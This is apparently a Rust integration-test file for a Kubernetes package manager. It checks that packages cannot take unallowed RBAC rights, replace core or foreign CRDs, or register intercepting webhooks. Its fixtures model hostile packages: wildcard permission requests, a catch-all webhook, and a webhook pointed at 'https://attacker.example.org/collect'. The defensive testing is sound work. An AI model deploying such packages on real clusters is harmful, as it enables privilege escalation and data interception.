//! Nobody gets what nobody allowed: permissions, groups of others, webhooks about others. The
//! manager here is told nothing about permissions, so it goes by the role that gathers what is
//! allowed; one group of the community is open.

use super::Scenario;
use super::made_up::packages_of_any_content_get_what_was_allowed;
use super::revisions::{crd, owned, path};
use super::runtimes::{deployments, role};
use super::stage::{Stage, condition, packages};
use crate::support::{Ran, apron, command, peer, until};
use serde_json::{Value as Json, json};

pub(super) const ALL: &[Scenario] = &[
    ("c1: no right that nobody allowed", c1_a_provider_gets_no_right_that_nobody_allowed),
    ("c1: allowed by one command", c1_what_is_asked_for_is_allowed_by_one_command_and_taken_back),
    ("c2: the manager's own definitions", c2_no_package_replaces_what_the_manager_rests_on),
    ("h1: groups of Kubernetes", h1_no_package_gets_rights_on_kinds_of_kubernetes),
    ("h1: groups of the community", h1_a_group_of_the_community_is_open_where_it_is_named),
    (
        "h1: managed definitions beside others",
        h1_a_managed_definition_does_not_stand_in_for_anothers_kind,
    ),
    (
        "h1: composite definitions beside others",
        h1_a_composite_definition_does_not_stand_in_for_anothers_kind,
    ),
    ("h1: groups of other API servers", h1_groups_of_other_api_servers_are_closed),
    ("h7: webhooks at an address", h7_no_webhook_is_called_at_an_address),
    ("h7: webhooks in a plan", h7_a_plan_says_what_webhooks_are_about),
    ("h7: webhooks about others", h7_webhooks_about_kinds_of_others_are_allowed_or_not_there),
    ("c1, c2, h1, h7: packages of any content", packages_of_any_content_get_what_was_allowed),
];

/// What the manager is told.
pub(super) const WORDS: [&str; 2] = ["--allow-group", "gateway.networking.k8s.io"];

const ROLES: &str = "/apis/rbac.authorization.k8s.io/v1/clusterroles";
const WEBHOOKS: &str = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations";

/// Builds a package as somebody would who does not ask `apron lint`, pushes it and gives its
/// reference.
pub(super) fn push_unlinted(stage: &Stage, name: &str, spec: &Json, objects: &[Json]) -> String {
    let root = format!("unlinted/{name}");
    let metadata = json!({
        "apiVersion": "meta.pkg.crossplane.io/v1", "kind": "Provider", "metadata": {"name": name},
        "spec": spec,
    });
    stage.scratch.write(&format!("{root}/crossplane.yaml"), metadata.to_string());
    for (number, object) in objects.iter().enumerate() {
        stage.scratch.write(&format!("{root}/object-{number}.yaml"), object.to_string());
    }
    let file = format!("{name}.xpkg");
    peer(&stage.scratch, "crossplane", ["xpkg", "build", "-f", &root, "-o", &file]).ok();
    let reference = stage.registry.reference(&format!("{name}:v1.0.0"));
    apron(&stage.scratch, ["push", &reference, "-f", &file]).ok();
    reference
}

/// What `apron` says to the administrator.
fn administrator(stage: &Stage, words: &[&str]) -> Ran {
    let mut command = command(&stage.scratch);
    Ran::from(command.env("KUBECONFIG", stage.kubeconfig()).args(words).output().unwrap())
}

fn active(stage: &Stage, name: &str) -> String {
    until(&format!("{name} has an active revision"), || {
        let all = stage.revisions("Provider", name);
        all.into_iter().find(|one| one.1 == "Active").map(|one| one.2)
    })
}

/// Waits until the revision of a provider is refused in these words, and gives its name. Nothing of
/// it is there.
fn refused(stage: &Stage, name: &str, words: &[&str]) -> String {
    let revision = active(stage, name);
    let path = format!("{}/{revision}", packages("ProviderRevision"));
    until(&format!("{name} is told: {}", words.join(" … ")), || {
        let told = condition(&stage.ask(&path)?, "RevisionHealthy")?;
        let message = told["message"].as_str()?.to_owned();
        let is_told = words.iter().all(|word| message.contains(word));
        (told["status"] == "False" && is_told).then_some(())
    });
    assert!(stage.is_absent(&deployments(&revision)));
    assert!(stage.is_absent(&role(&revision)));
    let found = stage.ask(&path).unwrap();
    assert!(found["status"]["objectRefs"].is_null(), "{found}");
    revision
}

fn asking(rules: &[Json]) -> Json {
    json!({"controller": {"permissionRequests": rules}})
}

fn c1_a_provider_gets_no_right_that_nobody_allowed(stage: &Stage) {
    let all = json!({"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]});
    let urls = json!({"nonResourceURLs": ["*"], "verbs": ["*"]});
    let reference = stage.push_provider("c1-takes-all", "v1.0.0", &asking(&[all, urls]));
    // Nobody has to name the provider: whoever depends on it is enough.
    let (repository, _) = reference.rsplit_once(':').unwrap();
    let needs = json!({"dependsOn": [{"provider": repository, "version": ">=v1.0.0"}]});
    let top = stage.push_spec("Configuration", "c1-innocent", "v1.0.0", &needs);
    let told = administrator(stage, &["plan", &top]).failed();
    assert!(told.contains("nobody allowed: * *, *.*"), "{told}");
    let words = "apron permissions allow provider/c1-takes-all";
    assert!(told.contains(words), "{told}");
    let told = administrator(stage, &["install", &top]).ok();
    assert!(!told.stderr.contains("nobody allowed"), "{}", told.stderr);
    refused(stage, "c1-takes-all", &["nobody allowed: * *, *.*", words]);
    let status = administrator(stage, &["status", "c1-takes-all"]).failed();
    assert!(status.contains(words), "{status}");
    // Whoever installs it by name is told at once.
    let told = administrator(stage, &["install", &reference, "c1-takes-all-too"]);
    assert!(
        told.stderr.contains("apron permissions allow provider/c1-takes-all-too"),
        "{}",
        told.stderr
    );
}

fn c1_what_is_asked_for_is_allowed_by_one_command_and_taken_back(stage: &Stage) {
    let name = "c1-asks";
    let boats =
        json!({"apiGroups": ["c1.example.org"], "resources": ["boats"], "verbs": ["get", "list"]});
    let reference = stage.push_provider(name, "v1.0.0", &asking(std::slice::from_ref(&boats)));
    let told = administrator(stage, &["install", &reference, name]).ok();
    let command = "apron permissions allow provider/c1-asks";
    assert!(told.stderr.contains(command), "{}", told.stderr);
    let words = ["nobody allowed: get, list boats.c1.example.org", command];
    let revision = refused(stage, name, &words);
    let show =
        |words: &[&str]| administrator(stage, &[&["permissions"], words].concat()).ok().stdout;
    assert!(show(&["show", name]).contains("get, list boats.c1.example.org: not allowed"));
    let listed: Json = serde_json::from_str(&show(&["list", "-o", "json"])).unwrap();
    let own = |one: &&Json| one["id"] == "provider/c1-asks";
    let own = listed.as_array().unwrap().iter().find(own).unwrap().clone();
    assert_eq!((&own["asked"], &own["refused"]), (&json!([boats]), &json!([boats])));

    assert!(show(&["allow", name]).contains("get, list boats.c1.example.org"));
    let written = stage.ask(&format!("{ROLES}/apron%3Aallowed%3Aprovider%3Ac1-asks")).unwrap();
    assert_eq!(written["rules"], json!([boats]));
    until("its Deployment is there", || stage.ask(&deployments(&revision)));
    stage.installed("Provider", name);
    let granted = stage.ask(&role(&revision)).unwrap();
    assert!(granted["rules"].as_array().unwrap().contains(&boats), "{granted}");
    assert!(show(&["show", name]).contains("get, list boats.c1.example.org: allowed"));

    assert!(show(&["revoke", name]).contains("apron:allowed:provider:c1-asks"));
    until("it loses its roles", || stage.is_absent(&role(&revision)).then_some(()));
    let again = administrator(stage, &["permissions", "revoke", name]).failed();
    assert!(again.contains("nothing was allowed"), "{again}");
}

fn c2_no_package_replaces_what_the_manager_rests_on(stage: &Stage) {
    let name = "imageconfigs.pkg.crossplane.io";
    let before = stage.ask(&path(name)).unwrap();
    let mut definition = crd("pkg.crossplane.io", "imageconfigs", &["matchImages"]);
    definition["spec"]["versions"][0]["name"] = json!("v1beta1");
    let names = json!({"kind": "ImageConfig", "listKind": "ImageConfigList", "plural": "imageconfigs", "singular": "imageconfig"});
    definition["spec"]["names"] = names;
    let objects = [definition];
    let reference = push_unlinted(stage, "c2-replaces", &json!({}), &objects);
    // Its author was told.
    let told = administrator(stage, &["lint", &reference]).failed();
    assert!(told.contains("group-reserved"), "{told}");
    let told = administrator(stage, &["plan", &reference]).failed();
    assert!(told.contains("which is the package manager's own"), "{told}");
    stage.install("Provider", "c2-replaces", &json!({"package": reference}));
    refused(stage, "c2-replaces", &["what no package may", name, "the package manager's own"]);
    let after = stage.ask(&path(name)).unwrap();
    assert_eq!(
        (&before["spec"], &before["metadata"]["ownerReferences"]),
        (&after["spec"], &after["metadata"]["ownerReferences"])
    );
}

/// A definition in a group of Kubernetes, with the word that makes API servers take it.
fn approved(group: &str, plural: &str) -> Json {
    let mut definition = crd(group, plural, &["a"]);
    definition["metadata"]["annotations"] =
        json!({"api-approved.kubernetes.io": "unapproved, legacy API"});
    definition["spec"]["versions"][0]["name"] = json!("v99");
    definition
}

fn h1_no_package_gets_rights_on_kinds_of_kubernetes(stage: &Stage) {
    let objects = [
        approved("rbac.authorization.k8s.io", "clusterroles"),
        approved("admissionregistration.k8s.io", "mutatingwebhookconfigurations"),
    ];
    let reference = push_unlinted(stage, "h1-clusterroles", &json!({}), &objects);
    let told = administrator(stage, &["install", &reference, "h1-clusterroles"]).ok();
    assert!(told.stderr.contains("which is Kubernetes' own"), "{}", told.stderr);
    refused(
        stage,
        "h1-clusterroles",
        &["clusterroles.rbac.authorization.k8s.io", "Kubernetes' own"],
    );
    for object in &objects {
        assert!(stage.is_absent(&path(object["metadata"]["name"].as_str().unwrap())));
    }
}

fn h1_a_group_of_the_community_is_open_where_it_is_named(stage: &Stage) {
    let closed = [approved("snapshot.storage.k8s.io", "volumesnapshots")];
    let reference = stage.push_package("Provider", "h1-closed", "v1.0.0", &json!({}), &closed);
    stage.install("Provider", "h1-closed", &json!({"package": reference}));
    refused(stage, "h1-closed", &["--allow-group snapshot.storage.k8s.io"]);
    let open = [approved("gateway.networking.k8s.io", "gateways")];
    let reference = stage.push_package("Provider", "h1-open", "v1.0.0", &json!({}), &open);
    stage.install("Provider", "h1-open", &json!({"package": reference}));
    stage.installed("Provider", "h1-open");
    let granted = stage.ask(&role(&active(stage, "h1-open"))).unwrap();
    assert!(granted.to_string().contains("gateway.networking.k8s.io"), "{granted}");
}

/// Crossplane makes a definition of one of managed resources; where Helm made that, say, the kind is
/// not the package's, and neither are rights on it.
fn h1_a_managed_definition_does_not_stand_in_for_anothers_kind(stage: &Stage) {
    let (name, group) = ("h1-stands-in", "cert-manager.example.org");
    let definitions = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions?fieldManager=helm";
    let theirs = crd(group, "issuers", &["theirs"]);
    let before = stage.change("POST", definitions, "application/json", &theirs);
    let mut managed = crd(group, "issuers", &["ours"]);
    managed["apiVersion"] = json!("apiextensions.crossplane.io/v1alpha1");
    managed["kind"] = json!("ManagedResourceDefinition");
    let client = json!({"service": {"name": "other", "namespace": "kube-system"}});
    let objects = [managed, webhook(&client, group, "issuers")];
    let reference = stage.push_package("Provider", name, "v1.0.0", &json!({}), &objects);
    let words = ["CustomResourceDefinition issuers.cert-manager.example.org was there already"];
    let told = administrator(stage, &["plan", &reference]).failed();
    assert!(told.contains(words[0]), "{told}");
    stage.install("Provider", name, &json!({"package": reference}));
    let revision = refused(stage, name, &[words[0], "apron adopt h1-stands-in"]);
    let managed = "/apis/apiextensions.crossplane.io/v1alpha1/managedresourcedefinitions/\
                   issuers.cert-manager.example.org";
    assert!(stage.is_absent(managed));
    assert!(stage.is_absent(&format!("{WEBHOOKS}/crossplane-provider-{name}")));

    // What it waits for is shown and given by the command that its condition names.
    let shown = administrator(stage, &["adopt", name, "--yes"]).ok();
    let kind = "~ CustomResourceDefinition issuers.cert-manager.example.org";
    assert!(shown.stdout.contains(kind), "{}", shown.all());
    until("it brings its definition", || stage.ask(managed));
    stage.installed("Provider", name);
    let granted = stage.ask(&role(&revision)).unwrap();
    assert!(granted.to_string().contains(group), "{granted}");
    let after = owned(stage, &path("issuers.cert-manager.example.org"), &[name]);
    assert_eq!(
        (&after["metadata"]["uid"], &after["spec"]),
        (&before["metadata"]["uid"], &before["spec"])
    );
}

/// A definition of a composite resource whose claims are called like a kind.
fn composite(group: &str, claims: &str) -> Json {
    let kind = format!("{}{}", claims[..1].to_uppercase(), &claims[1..]);
    json!({
        "apiVersion": "apiextensions.crossplane.io/v1", "kind": "CompositeResourceDefinition",
        "metadata": {"name": format!("x{claims}.{group}")},
        "spec": {
            "group": group, "names": {"kind": format!("X{kind}"), "plural": format!("x{claims}")},
            "claimNames": {"kind": kind, "plural": claims},
            "versions": [{"name": "v1", "served": true, "referenceable": true, "schema":
                {"openAPIV3Schema": {"type": "object", "properties": {"spec": {"type": "object"}}}}}],
        },
    })
}

/// The same of a composite resource's claims: neither a package nor a definition by hand makes
/// rights of the kind of another owner. Crossplane is played here.
fn h1_a_composite_definition_does_not_stand_in_for_anothers_kind(stage: &Stage) {
    let (name, group) = ("h1-composes", "secret-manager.example.org");
    let definitions = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions?fieldManager=helm";
    let theirs = crd(group, "vaults", &["theirs"]);
    stage.change("POST", definitions, "application/json", &theirs);
    let definition = composite(group, "vaults");
    let objects = [definition.clone()];
    let reference = stage.push_package("Configuration", name, "v1.0.0", &json!({}), &objects);
    let was_there = format!("CustomResourceDefinition vaults.{group} was there already");
    let told = administrator(stage, &["plan", &reference]).failed();
    assert!(told.contains(&was_there), "{told}");
    stage.install("Configuration", name, &json!({"package": reference}));
    until("the package is told whose the kind is", || {
        let package = stage.package("Configuration", name);
        let message = condition(&package, "Healthy")?["message"].as_str()?.to_owned();
        message.contains(&was_there).then_some(())
    });
    let composites = "/apis/apiextensions.crossplane.io/v1/compositeresourcedefinitions";
    let brought = format!("{composites}/xvaults.{group}");
    assert!(stage.is_absent(&brought));

    // By hand it is there, and has rights on the kind that is its own, and no other.
    let by_hand = stage.change("POST", composites, "application/json", &definition);
    let role = format!("{ROLES}/crossplane%3Acomposite%3Axvaults.{group}%3Aaggregate-to-edit");
    let rules = |is_meant: &dyn Fn(&str) -> bool| {
        until("the role is as it should be", || {
            let rules = stage.ask(&role)?["rules"].to_string();
            is_meant(&rules).then_some(rules)
        })
    };
    let own = rules(&|rules| rules.contains("\"xvaults\""));
    assert!(!own.contains("\"vaults\""), "{own}");
    // Once Crossplane controls the definition, the kind is that of the composite resource.
    let owner = json!({
        "apiVersion": "apiextensions.crossplane.io/v1", "kind": "CompositeResourceDefinition",
        "name": format!("xvaults.{group}"), "uid": by_hand["metadata"]["uid"],
        "controller": true, "blockOwnerDeletion": true,
    });
    let crd_path = path(&format!("vaults.{group}"));
    let merge = |owners: &Json| {
        let change = json!({"metadata": {"ownerReferences": owners}});
        stage.change("PATCH", &crd_path, "application/merge-patch+json", &change);
    };
    merge(&json!([owner]));
    rules(&|rules| rules.contains("\"vaults\""));
    merge(&Json::Null);
    rules(&|rules| !rules.contains("\"vaults\""));
    stage.change("DELETE", &brought, "application/json", &json!({}));
    until("the roles go with it", || stage.is_absent(&role).then_some(()));

    // The package has its definition once an administrator gives it the one that is there.
    administrator(stage, &["adopt", name, "--yes"]).ok();
    until("it brings its definition", || stage.ask(&brought));
    stage.installed("Configuration", name);
    owned(stage, &crd_path, &[name]);
    let own = rules(&|rules| rules.contains("\"xvaults\""));
    assert!(!own.contains("\"vaults\""), "nobody made it of the package's yet: {own}");
}

/// A real API server leads requests about a group to another one if it is told so; ours never does.
fn h1_groups_of_other_api_servers_are_closed(stage: &Stage) {
    if !stage.is_real() {
        return;
    }
    let group = "elsewhere.example.org";
    let services = "/apis/apiregistration.k8s.io/v1/apiservices";
    let service = json!({
        "apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
        "metadata": {"name": format!("v1beta9.{group}")},
        "spec": {
            "group": group, "version": "v1beta9", "groupPriorityMinimum": 10, "versionPriority": 10,
            "service": {"name": "elsewhere", "namespace": "kube-system"},
            "insecureSkipTLSVerify": true,
        },
    });
    stage.make(services, &service);
    let objects = [crd(group, "projects", &["a"])];
    let reference = stage.push_package("Provider", "h1-elsewhere", "v1.0.0", &json!({}), &objects);
    let told = administrator(stage, &["plan", &reference]).failed();
    assert!(told.contains("which another API server serves"), "{told}");
    stage.install("Provider", "h1-elsewhere", &json!({"package": reference}));
    refused(stage, "h1-elsewhere", &["elsewhere.example.org, which another API server serves"]);
    assert!(stage.is_absent(&path("projects.elsewhere.example.org")));
    let itself = format!("{services}/v1beta9.{group}");
    stage.change("DELETE", &itself, "application/json", &json!({}));
}

fn webhook(client: &Json, group: &str, resource: &str) -> Json {
    json!({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "hook"},
        "webhooks": [{
            "name": "hook.example.org", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "failurePolicy": "Ignore", "clientConfig": client,
            "rules": [{
                "apiGroups": [group], "apiVersions": ["*"], "operations": ["CREATE", "UPDATE"],
                "resources": [resource],
            }],
        }],
    })
}

fn h7_no_webhook_is_called_at_an_address(stage: &Stage) {
    let client = json!({"url": "https://attacker.example.org/collect"});
    let objects =
        [crd("h7.example.org", "things", &["a"]), webhook(&client, "h7.example.org", "things")];
    let reference = push_unlinted(stage, "h7-address", &json!({}), &objects);
    stage.install("Provider", "h7-address", &json!({"package": reference}));
    refused(stage, "h7-address", &["https://attacker.example.org/collect"]);
    assert!(stage.is_absent(&format!("{WEBHOOKS}/crossplane-provider-h7-address")));
}

fn h7_a_plan_says_what_webhooks_are_about(stage: &Stage) {
    let client = json!({"service": {"name": "other", "namespace": "kube-system"}});
    let group = "h7-own.example.org";
    let objects = [crd(group, "things", &["a"]), webhook(&client, group, "things")];
    let reference = stage.push_package("Provider", "h7-own", "v1.0.0", &json!({}), &objects);
    let told = administrator(stage, &["plan", &reference]);
    let words = "hook.example.org calls Service crossplane-system/h7-own about create, update of \
                 things.h7-own.example.org, which goes through without an answer";
    assert!(told.stdout.contains(words), "{}", told.all());
    stage.install("Provider", "h7-own", &json!({"package": reference}));
    stage.installed("Provider", "h7-own");
}

fn h7_webhooks_about_kinds_of_others_are_allowed_or_not_there(stage: &Stage) {
    let client =
        json!({"service": {"name": "other", "namespace": "kube-system", "path": "/mutate"}});
    let name = "h7-intercepts";
    let objects = [
        crd("intercepts.example.org", "things", &["a"]),
        webhook(&client, "h7.example.org", "boats"),
    ];
    let reference = stage.push_package("Provider", name, "v1.0.0", &json!({}), &objects);
    let everything = webhook(&client, "*", "*/*");
    let all = stage.push_package("Provider", "h7-everything", "v1.0.0", &json!({}), &[everything]);
    stage.install("Provider", "h7-everything", &json!({"package": all}));
    stage.install("Provider", name, &json!({"package": reference}));
    let revision = refused(stage, name, &["intercept boats.h7.example.org", "permissions allow"]);
    let there = format!("{WEBHOOKS}/crossplane-provider-{name}");
    assert!(stage.is_absent(&there));
    administrator(stage, &["permissions", "allow", name]).ok();
    let made = until("its webhook is there", || stage.ask(&there));
    let service = &made["webhooks"][0]["clientConfig"]["service"];
    assert_eq!(
        (&service["name"], &service["namespace"]),
        (&json!(name), &json!("crossplane-system"))
    );
    until("its Deployment is there", || stage.ask(&deployments(&revision)));
    // Who was not allowed to has nothing from it.
    refused(stage, "h7-everything", &["intercept */*.*"]);
    administrator(stage, &["permissions", "revoke", name]).ok();
    until("its webhook is gone", || stage.is_absent(&there).then_some(()));
}
